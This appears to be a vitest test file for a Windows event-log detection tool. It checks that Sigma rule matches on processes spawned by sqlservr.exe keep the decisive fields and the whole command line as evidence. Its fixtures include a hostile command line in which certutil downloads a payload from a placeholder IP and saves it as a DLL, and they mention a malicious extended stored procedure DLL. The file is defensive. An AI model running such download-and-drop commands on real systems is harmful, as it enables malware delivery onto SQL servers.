/**
 * The decisive part of an evidence item: the fields the Sigma rule read (after field
 * mapping: ParentImage is ParentProcessName in Security 4688) and what the event did (the
 * command line), whole, however long the rest of the event is.
 */
import { describe, expect, it } from 'vitest';
import { decisiveOf, excerpt, refOf } from '../../detection/analyze/evidence-ref.js';
import type { SourcedEvent } from '../../detection/analyze/inputs.js';
import { createEventView } from '../../detection/sigma/event-view.js';
import { loadRules } from '../../detection/sigma/index.js';
import type { EventJson } from '../../parsers/common/event.js';
import { securityEvent, sysmonEvent } from '../sigma/helpers.js';

const RULE = `title: Process Started by sqlservr.exe
id: 0dce650b-e210-4fd5-b602-812388fcded7
logsource:
  category: process_creation
  product: windows
detection:
  selection:
    ParentImage|endswith: '\\sqlservr.exe'
  filter:
    Image|endswith: '\\WerFault.exe'
  condition: selection and not filter
level: high
`;

const COMMAND = 'cmd.exe /c certutil -urlcache -split -f http://198.51.100.23/x64.dat C:\\ProgramData\\ExtendedProcedure.dll';
const BINN = 'C:\\Program Files\\Microsoft SQL Server\\MSSQL14.MSSQLSERVER\\MSSQL\\Binn\\sqlservr.exe';

function sourced(event: EventJson, message: string): SourcedEvent {
  return {
    event,
    summary: { provider: 'x', eventId: 4688, channel: 'Security', computer: 'SQL01', timestamp: '2026-03-11T01:22:40.2015560Z' },
    origin: { kind: 'evtx', recordId: 7, offset: 0x393f8 },
    artefact: 'C:\\Windows\\System32\\winevt\\Logs\\Security.evtx',
    kind: 'evtx',
    message,
  };
}

describe('decisive part of the evidence', () => {
  const { rules, errors } = loadRules([{ path: 'r.yml', text: RULE }]);

  it('a match carries the fields its detection read, mapped to the event', () => {
    expect(errors).toEqual([]);
    const sec = securityEvent(4688, { SubjectUserName: 'MSSQLSERVER', NewProcessName: 'C:\\Windows\\System32\\cmd.exe', ParentProcessName: BINN, CommandLine: COMMAND });
    const m = rules.match(createEventView(sec));
    expect(m).toHaveLength(1);
    expect(m[0]?.fields).toEqual(['ParentProcessName', 'NewProcessName']);
    const sys = rules.match(createEventView(sysmonEvent(1, { Image: 'C:\\Windows\\System32\\cmd.exe', ParentImage: BINN, CommandLine: COMMAND })));
    expect(sys[0]?.fields).toEqual(['ParentImage', 'Image']);
  });

  it('keeps the command line whole although the excerpt is cut at 400 characters', () => {
    const padding = Object.fromEntries(Array.from({ length: 30 }, (_, i) => [`Field${i}`, 'x'.repeat(20)]));
    const event = securityEvent(4688, { ...padding, NewProcessName: 'C:\\Windows\\System32\\cmd.exe', ParentProcessName: BINN, CommandLine: COMMAND });
    const message = Object.entries({ ...padding, NewProcessName: 'C:\\Windows\\System32\\cmd.exe', CommandLine: COMMAND })
      .map(([k, v]) => `${k}=${v}`)
      .join('; ');
    const ref = refOf(sourced(event, message), ['ParentProcessName', 'NewProcessName']);
    expect(ref.excerpt).toBe(excerpt(message));
    expect(ref.excerpt).not.toContain('certutil');
    expect(ref.decisive).toBe(`ParentProcessName=${BINN}; NewProcessName=C:\\Windows\\System32\\cmd.exe; CommandLine=${COMMAND}`);
  });

  it('leaves out the logsource fields and empty values; none for a message without named fields', () => {
    const event = sysmonEvent(7, { ImageLoaded: 'C:\\ProgramData\\ExtendedProcedure.dll', Image: '-', Signed: 'false' });
    expect(decisiveOf(sourced(event, ''), ['EventID', 'Channel', 'Signed'])).toBe('Signed=false; ImageLoaded=C:\\ProgramData\\ExtendedProcedure.dll');
    const classic: EventJson = { Event: { System: { EventID: 8128 }, EventData: { Data: { '#text': ['C:\\x.dll', '1.0', 'maggie'] } } } };
    expect(decisiveOf(sourced(classic, "Using 'C:\\x.dll' version '1.0' to execute extended stored procedure 'maggie'."))).toBeUndefined();
  });
});
